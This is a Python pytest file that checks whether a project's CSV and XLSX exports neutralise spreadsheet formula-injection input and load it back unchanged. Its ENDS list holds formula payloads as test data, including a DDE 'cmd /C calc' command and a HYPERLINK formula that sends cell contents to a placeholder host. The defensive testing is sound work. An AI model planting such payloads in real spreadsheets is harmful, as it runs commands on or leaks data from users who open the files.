"""B5: no exported cell is a formula to a spreadsheet, and every one comes back equal."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from random import Random

import pytest
from python_calamine import CalamineWorkbook

from faults.ingest import told
from faults.measured import Measured
from throughline.connect.cells import is_formula, restored
from throughline.connect.loading import read_plant_with_problems
from throughline.connect.writing import FORMATS, write_plant
from throughline.model import TABLES
from throughline.model.door import LOOP_TABLES, read_body
from throughline.model.materials import Material
from throughline.model.plant import Plant
from throughline.web.imports import errors_csv

EXPORTS = len(FORMATS) + 1

DANGEROUS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "＝",
    "＋",
    "－",
    "＠",
    "\n",
    " =",
    "\u00a0=",
    "\ufeff@",
)
ENDS = (
    "1+1", 'HYPERLINK("http://a.invalid/"&A1,"x")', 'cmd|" /C calc"!A0', "SUM(1+1)*cmd|' /C x'!A0",
    "IMPORTXML(CONCAT(A1))", "1", "", "-", "5 pcs", "ø", "'", '"', ",;\t", "=", "_x003D_",
    "A" * 100,
)  # fmt: skip


def payloads(chance: Random, count: int) -> list[str]:
    """Texts that begin dangerously, each one once."""
    whole = [begin + end for begin in DANGEROUS for end in ENDS]
    found = dict.fromkeys(chance.sample(whole, len(whole)))
    return [text for text in found if text.strip()][:count]


@pytest.mark.faults(row="B5", full=600, short=600)
def test_every_dangerous_cell_is_neutral_in_every_export_and_comes_back_equal(
    rounds: int, chance: Random, measured: Measured, tmp_path: Path
) -> None:
    texts = payloads(chance, rounds // EXPORTS)
    assert len(texts) * EXPORTS == rounds
    plant = plant_of(texts)
    cells = 0
    for form in FORMATS:
        out = tmp_path / ("csv" if form == "csv" else "plant.xlsx")
        write_plant(plant, out, form=form)
        exported = cells_of_csv(out) if form == "csv" else cells_of_xlsx(out)
        assert [cell for cell in exported if is_formula(cell)] == []
        back, problems = read_plant_with_problems(out)
        assert problems == ()
        for table in TABLES.values():
            assert dict(back.records(table.type)) == dict(plant.records(table.type))
        cells += len(exported)
        measured.done(len(texts))
    exported = cells_of_row_errors(texts)
    assert [cell for cell in exported if is_formula(cell)] == []
    assert [restored(cell) for cell in exported] == texts
    measured.done(len(texts))
    measured.note(exports=EXPORTS, cells=cells + len(exported))
    measured.figure = f"{EXPORTS} exports × {len(texts)} payloads, 0 formulas, all equal again"


def test_an_export_by_command_is_neutral_and_loads_into_the_same_plant(tmp_path: Path) -> None:
    texts = payloads(Random(1), 40)
    write_plant(plant_of(texts), tmp_path / "in", form="csv")
    first, second = tmp_path / "first.db", tmp_path / "second.db"
    assert told("load", str(tmp_path / "in"), "--db", str(first))[0] == 0
    for form in FORMATS:
        out = str(tmp_path / ("out" if form == "csv" else "out.xlsx"))
        assert told("export", "plant", "--format", form, "--out", out, "--db", str(first))[0] == 0
        assert told("load", out, "--db", str(second), "--source", "back")[0] == 0
        again = told("load", out, "--db", str(second), "--source", "back")[1]
        assert (again["accepted"], again["unchanged"]) == (0, len(texts))


def plant_of(texts: list[str]) -> Plant:
    """Each text as the id of one material and in every free text of it."""
    records = []
    for number, text in enumerate(texts):
        body = {"id": text, "name": text, "family": f"{text}{number}", "unit": text}
        read = read_body(TABLES["materials"], body)
        assert isinstance(read, dict), read  # the door lets it into a record
        records.append(Material(**body))
    assert "materials" not in LOOP_TABLES
    return Plant.of(records)


def cells_of_csv(folder: Path) -> list[str]:
    found = []
    for path in sorted(folder.glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            found.extend(cell for row in csv.reader(file) for cell in row)
    return found


def cells_of_row_errors(texts: list[str]) -> list[str]:
    """The values that the list of errors of an import shows, as it is downloaded."""
    errors = [
        {"file": "a.csv", "row": 2, "column": "id", "value": text, "problem": "is", "cure": "."}
        for text in texts
    ]
    said = errors_csv({"files": [{"errors": errors}]})
    return [row["value"] for row in csv.DictReader(io.StringIO(said, newline=""))]


def cells_of_xlsx(path: Path) -> list[str]:
    book = CalamineWorkbook.from_path(path)
    sheets = (book.get_sheet_by_name(name).to_python() for name in book.sheet_names)
    return [cell for rows in sheets for row in rows for cell in row if isinstance(cell, str)]
